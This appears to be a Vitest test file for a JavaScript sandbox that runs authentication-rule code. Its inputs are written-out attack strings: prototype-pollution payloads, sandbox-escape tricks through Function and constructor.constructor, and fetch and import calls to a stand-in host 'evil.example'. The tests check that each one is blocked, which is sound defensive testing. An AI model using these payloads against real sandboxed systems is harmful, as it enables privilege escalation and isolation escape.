import { describe, expect, test } from 'vitest';
import { action, body, reasonOf, run } from './sandbox-run';

const pass = 'callback(null, user, context);';

describe('attacks on prototypes', () => {
	test.each([
		'Object.prototype.isAdmin = true',
		'Array.prototype.push = () => 1',
		'Array.prototype.toJSON = () => []',
		'JSON.stringify = () => 1',
		'delete Object.prototype.toString',
		`Object.defineProperty(Object.prototype, 'reason', { get() { return 'passed' } })`,
		'Object.setPrototypeOf(Array.prototype, { a: 1 })',
		`Function.prototype.call = () => 1`,
		'Object.keys = () => []',
		'user.constructor.prototype.isAdmin = true',
		'Promise.prototype.then = function () { return this }',
		`Object.defineProperty(user, '__proto__', { value: { isAdmin: true }, enumerable: true })`,
		`user.metadata = JSON.parse('{"__proto__":{"isAdmin":true}}')`,
		`user.constructor = { prototype: { isAdmin: true } }`
	])('%s', async (code) => {
		const written = body(`${code}; ${pass}`);
		expect(['prototype', 'threw', 'never-settled']).toContain(await reasonOf(written));
		expect(Reflect.get({}, 'isAdmin')).toBeUndefined();
		expect([].push.name).toBe('push');
	});

	test.each(['user.__proto__.isAdmin = true', 'user.__proto__ = { isAdmin: true }', `context['__proto__']`])(
		'%s',
		async (code) => {
			expect(await reasonOf(body(`${code}; ${pass}`))).toBe('forbidden');
			expect(Reflect.get({}, 'isAdmin')).toBeUndefined();
		}
	);

	test('through the value of a claim', async () => {
		const code = `api.idToken.setCustomClaim('https://e.com/a', JSON.parse('{"a":[{"__proto__":1}]}'));`;
		expect(await reasonOf(action(code))).toBe('prototype');
	});

	test('through the name of a claim', async () => {
		expect(await reasonOf(action(`api.idToken.setCustomClaim('__proto__', { isAdmin: true });`))).toBe(
			'prototype'
		);
		expect(await reasonOf(action(`api.idToken.setCustomClaim('constructor', 1);`))).toBe('prototype');
	});
});

describe('reaching for the world outside', () => {
	const names = ['fetch', 'self', 'window', 'indexedDB', 'localStorage', 'caches', 'process', 'require'];

	test.each(names)('%s: by name, by typeof, as a property, written, caught, and by detours', async (name) => {
		for (const code of [
			name,
			`${name}('https://evil.example')`,
			`typeof ${name}`,
			`globalThis.${name}`,
			`globalThis['${name}']`,
			`${name} = 1`,
			`try { ${name} } catch (error) {}`,
			`Function('return ${name}')()`,
			`user.constructor.constructor('return ${name}')()`,
			`(0, eval)('${name}')`
		]) {
			const { denial } = await run(body(`${code}; ${pass}`));
			expect(denial, code).toMatchObject({ reason: 'forbidden', detail: name });
		}
	});

	test('even when it ends by throwing, or in a loop', async () => {
		expect(await reasonOf(action(`try { fetch } catch (error) {} throw 1;`))).toBe('forbidden');
		expect(
			await reasonOf(action(`try { fetch } catch (error) {} for (;;) {}`), { limits: { milliseconds: 50 } })
		).toBe('forbidden');
	});

	test('nothing of the host is among the names that a rule finds', async () => {
		const code = `console.log(Object.getOwnPropertyNames(globalThis).sort()); ${pass}`;
		const outcome = await run(body(code), { limits: { logCharacters: 100_000 } });
		const found = JSON.parse(outcome.runs[0]?.logs[0] ?? '[]') as string[];
		expect(found).toContain('UnauthorizedError');
		const unlike = ['host', 'scriptArgs', 'print', 'loadScript', 'gc', 'navigator2', 'bjson'];
		expect(found.filter((name) => unlike.includes(name))).toEqual([]);
	});

	test('import', async () => {
		expect(await reasonOf(action(`await import('node:fs');`))).toBe('threw');
		expect(await reasonOf(action(`await import('https://evil.example/a.js');`))).toBe('threw');
	});

	test('a name of one`s own is no reaching', async () => {
		expect(await reasonOf(body(`const fetch = 1; let self = user.process; ${pass}`))).toBe('passed');
	});
});
